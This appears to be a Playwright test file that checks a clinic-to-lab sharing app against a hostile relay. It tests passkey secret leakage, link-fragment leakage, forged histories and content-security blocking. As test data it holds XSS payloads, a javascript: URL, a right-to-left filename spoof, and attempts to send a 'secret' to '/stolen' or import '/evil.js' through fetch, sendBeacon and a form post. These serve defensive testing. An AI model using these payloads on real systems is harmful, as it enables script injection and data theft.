// Attacks that end on a screen: words that are code, code that is injected, a relay that wants what unlocks a vault, and
// what a link leaves behind in the browser.
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { CLIENT_FRAME } from '../../protocol/frames.ts';
import { toHex } from '../../protocol/bytes.ts';
import { encode } from '../../protocol/schema.ts';
import { App } from '../../relay/web/app.ts';
import { printFork } from '../../client/access/forks.ts';
import { printHistories } from '../../client/access/histories.ts';
import { memberAttacks } from '../hostile-member/attacks.ts';
import { newHouse } from '../hostile-member/house.ts';
import { Member } from '../hostile-member/member.ts';
import { signBatch } from '../hostile-relay/kept-log.ts';
import { random } from '../hostile-relay/keys.ts';
import { startHostileRelay, type HostileRelay } from '../hostile-relay/relay.ts';
import * as f from '../gate/forge.ts';
import { launchBrowser, newTablet, type Tablet } from '../support/browser.ts';
import { messages, say } from './case.ts';
import { addPatient, draftCrown, lock, makeLink, openPlace, startPractice, unlockWithPasskey } from './clinic.ts';
import { acceptWithPassphrase } from './lab.ts';
import { look } from './look.ts';
import { keepPictures } from './story.ts';

const HTML = `<img src=x onerror="window.hit='html'"><script>window.hit='script'</script>`;
const ADDRESS = 'javascript:window.hit=1';
const TURNED = 'A2 \u202Etxt.exe\u202C end';

let browser: Browser;
let relay: HostileRelay;
let address: string;
let clinic: Tablet;
let lab: Member;
beforeAll(async () => {
  const app = new App(join(import.meta.dirname, '../../dist/app'), false);
  relay = await startHostileRelay(0, (request, response, path) => app.serve(request, response, path));
  address = `http://localhost:${String(relay.port)}`;
  browser = await launchBrowser();
  clinic = await newTablet(browser);
  clinic.page.setDefaultTimeout(45_000);
  await clinic.page.addInitScript(rememberPrf);
});
afterAll(async () => {
  await browser.close();
  await relay.close();
});
keepPictures(() => browser.contexts().flatMap((context) => context.pages()));

/** Keeps a copy of what the passkey hands out, as hex, for the test to look for. */
function rememberPrf(): void {
  const kept: string[] = [];
  Object.assign(globalThis, { keptPrf: kept });
  const prototype = PublicKeyCredential.prototype;
  const original = prototype.getClientExtensionResults;
  prototype.getClientExtensionResults = function () {
    const results = original.call(this);
    const first = (results as { prf?: { results?: { first?: ArrayBuffer } } }).prf?.results?.first;
    if (first) kept.push(Array.from(new Uint8Array(first), (byte) => byte.toString(16).padStart(2, '0')).join(''));
    return results;
  };
}
const hit = (page: Page): Promise<unknown> => page.evaluate(() => (globalThis as { hit?: unknown }).hit);

describe('at a relay that lies', () => {
  test('case 43 a relay that asks for PRF bytes at every login gets none, in any request or frame', async () => {
    const { page } = clinic;
    await startPractice(page, address, { organisation: `Praxis ${HTML}`, person: 'Dr. Ada Linde' });
    await page.getByRole('link', { name: /all sent/i }).waitFor();
    await lock(page);
    await unlockWithPasskey(page);
    await page.getByRole('link', { name: /all sent/i }).waitFor();
    const prf = await page.evaluate(() => (globalThis as unknown as { keptPrf: string[] }).keptPrf);
    expect(prf.length).toBeGreaterThan(0);
    const sent = [
      ...relay.requests.flatMap(({ path, body }) => [Buffer.from(path), Buffer.from(body)]),
      ...relay.heard.map(({ frame }) => Buffer.from(encode(CLIENT_FRAME, frame))),
    ];
    expect(relay.requests.some(({ path }) => path.startsWith('/account/'))).toBe(true);
    for (const hex of prf) {
      const bytes = Buffer.from(hex, 'hex');
      const forms = [bytes, Buffer.from(hex), Buffer.from(bytes.toString('base64').replace(/=+$/, ''))];
      forms.push(Buffer.from(bytes.toString('base64url')));
      expect(sent.some((each) => forms.some((form) => each.includes(form)))).toBe(false);
    }
  });

  test('case 35 script, HTML, javascript: and a turned direction, in every text of both houses: shown as text', async () => {
    const { page } = clinic;
    const name = `Anna ${HTML} ${TURNED}`;
    await addPatient(page, name, '1961-04-09');
    await draftCrown(page, { due: '2027-03-18', notes: `${HTML} ${ADDRESS} ${TURNED}` });
    await page.getByRole('button', { name: 'Share with a lab' }).click();
    const { link, code } = await makeLink(page);
    const house = await newHouse(`Mallory ${HTML} ${TURNED}`);
    lab = await Member.join(house, link, code);
    await page.getByText('Mallory <img').first().waitFor();
    const text = `${HTML} ${ADDRESS} ${TURNED}`;
    const message = { by: '', side: 'guest', at: Date.now(), kind: 'message', text, refersTo: '' };
    const client = lab.clientId('case/thread');
    await lab.write('case/thread', f.forge(client, 0, [{ info: f.ANY, parent: 'messages', content: f.any(message) }]));
    await messages(page).getByText(ADDRESS, { exact: false }).waitFor();
    expect(await messages(page).innerText()).toContain(HTML);
    await say(page, `${HTML} from the clinic`);
    for (const foreign of ['img[src="x"]', 'main script', 'a[href^="javascript:"]'])
      expect([foreign, await page.locator(foreign).count()]).toEqual([foreign, 0]);
    expect(await hit(page)).toBeUndefined();
    expect(clinic.errors).toEqual([]);
    // What turns the direction turns nothing outside the text it stands in.
    const box = await messages(page).getByText('from the clinic').boundingBox();
    expect(box?.width).toBeGreaterThan(0);
  });

  test('case 28 a lab that signs two entries for one place: the proof is saved after the screen says what is in it', async () => {
    const { page } = clinic;
    await memberAttacks.find((attack) => attack.case === '28')!.run(lab);
    await page.getByRole('link', { name: 'Look at them' }).first().click();
    await page.getByText('give it only to those who may read them').waitFor();
    await look(page, 'device-fork');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Save the proof' }).click(),
    ]);
    const { isGood, text } = printFork(new Uint8Array(await readFile(await download.path())));
    expect([isGood, text.includes(toHex(lab.house.device.id))]).toEqual([true, true]);
    lab.close();
  });

  test('case 49 what stands behind # is in no request, referrer, title or history of the page', async () => {
    const { page } = clinic;
    await page.reload();
    await unlockWithPasskey(page);
    await addPatient(page, 'Berta Eiche', '1961-04-09');
    await draftCrown(page, { due: '2027-03-18', notes: '' });
    await page.getByRole('button', { name: 'Share with a lab' }).click();
    const { link, code } = await makeLink(page);
    const secret = link.split('#/join/')[1]!;
    const before = relay.requests.length;
    const lab = await newTablet(browser, { passkey: false });
    await lab.page.goto(link);
    await lab.page.getByText('The link is good.').waitFor();
    const left = await lab.page.evaluate(() => ({
      href: location.href,
      title: document.title,
      referrer: document.referrer,
      state: JSON.stringify(history.state),
      stored: JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)]),
      body: document.body.innerText,
    }));
    expect(JSON.stringify(left)).not.toContain(secret.slice(0, 24));
    await acceptWithPassphrase(lab.page, code, { organisation: 'Krone', person: 'Tom' });
    const asked = relay.requests.slice(before);
    expect(asked.length).toBeGreaterThan(0);
    for (const { path, headers, body } of asked) {
      expect(`${path} ${JSON.stringify(headers)}`).not.toContain(secret.slice(0, 24));
      expect(Buffer.from(body).includes(secret.slice(0, 24))).toBe(false);
      expect(headers['referer'] ?? '').not.toContain('#');
    }
    await lab.page.goBack().catch(() => null);
    expect(lab.page.url()).not.toContain(secret.slice(0, 24));
    await lab.close();
  });

  test('case 8 a relay that signs two histories: said on the screen, saved as proof that holds anywhere, and settled', async () => {
    const { page } = clinic;
    const kept = relay.logs.get(Buffer.from(relay.invites.packages.at(-1)!.log).toString('hex'))!;
    const { entry, receipt } = kept.entries.at(-1)!;
    const [other] = signBatch(relay.key, [{ ...receipt.stored, hash: random(32) }]);
    for (const visitor of relay.readersOf(kept.id))
      visitor.say({ type: 'entries', log: kept.id, items: [{ entry, receipt: other! }] });
    const said = page.getByText('The relay has shown two histories of one case.');
    await said.first().waitFor();
    await page.goto(`${address}/backup`);
    await unlockWithPasskey(page);
    await openPlace(page, 'Backup');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Save the proof' }).click(),
    ]);
    const file = new Uint8Array(await readFile(await download.path()));
    expect(printHistories([file], Buffer.from(relay.key.publicKey).toString('hex'))).toMatchObject({ isGood: true });
    await page.getByRole('button', { name: 'It is settled' }).click();
    await said.waitFor({ state: 'detached' });
  });

  test('case 61 injected script, handler, eval, import, form post and fetch: stopped, and said on the screen', async () => {
    const { page } = clinic;
    const before = relay.requests.length;
    const elsewhere = `http://127.0.0.1:${String(relay.port)}`;
    const imported = await page.evaluate(`import('${elsewhere}/evil.js').then(() => 'no error', ({ name }) => name)`);
    const outcomes = await page.evaluate(async (elsewhere) => {
      const tries: Record<string, () => unknown> = {
        script: () => document.body.appendChild(Object.assign(document.createElement('script'), { text: 'hit=1' })),
        html: () => (document.body.innerHTML = '<b>hit</b>'),
        handler: () => document.body.setAttribute('onclick', 'hit=2'),
        evaluated: () => void (0, eval)('globalThis.hit=3'),
        made: () => void Reflect.construct(Function, ['globalThis.hit=4']),
        fetched: () => fetch(`${elsewhere}/stolen`, { method: 'POST', body: 'secret' }),
        beacon: () => navigator.sendBeacon(`${elsewhere}/stolen`, 'secret'),
        framed: () => document.body.append(Object.assign(document.createElement('iframe'), { src: `${elsewhere}/` })),
      };
      const out: Record<string, string> = {};
      for (const [name, attempt] of Object.entries(tries)) {
        // In a task of the page: what a debugger evaluates itself may do more.
        await new Promise((resolve) => setTimeout(resolve));
        try {
          await attempt();
          out[name] = 'no error';
        } catch (error) {
          out[name] = (error as Error).name;
        }
      }
      return out;
    }, elsewhere);
    expect(outcomes).toMatchObject({
      script: 'TypeError',
      html: 'TypeError',
      evaluated: 'EvalError',
      made: 'EvalError',
    });
    expect([imported, outcomes['fetched']]).toEqual(['TypeError', 'TypeError']);
    await page.locator('body').click({ position: { x: 2, y: 2 } });
    expect(await hit(page)).toBeUndefined();
    expect(relay.requests.slice(before).filter(({ path }) => /stolen|evil/.test(path))).toEqual([]);
    await page.getByRole('alert').getByText('Something foreign tried to run in this app and was stopped.').waitFor();
    await page.getByRole('button', { name: 'Understood' }).click();
    await page.getByRole('alert').waitFor({ state: 'detached' });
    // Last, because the browser's remote control waits for this page to go where it may not.
    const still = await page.evaluate(async (action) => {
      const form = Object.assign(document.createElement('form'), { action, method: 'post' });
      const refused = new Promise((resolve) => document.addEventListener('securitypolicyviolation', resolve));
      document.body.append(form);
      form.submit();
      await refused;
      return location.origin;
    }, `${elsewhere}/stolen`);
    expect(still).toBe(address);
    expect(relay.requests.slice(before).filter(({ path }) => path.includes('stolen'))).toEqual([]);
  });
});
